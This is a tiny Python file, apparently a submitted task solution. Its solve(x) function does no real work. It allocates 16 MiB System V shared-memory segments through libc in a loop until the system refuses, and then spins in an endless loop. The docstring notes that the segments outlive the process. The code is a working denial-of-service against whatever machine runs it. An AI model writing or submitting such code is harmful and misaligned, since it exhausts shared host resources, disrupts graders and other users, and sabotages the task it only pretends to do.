"""Makes System V segments, which outlive their maker."""

import ctypes

def solve(x):
    libc = ctypes.CDLL(None, use_errno=True)
    while libc.shmget(0, 2**24, 0o1666) >= 0:
        pass
    while True:
        pass
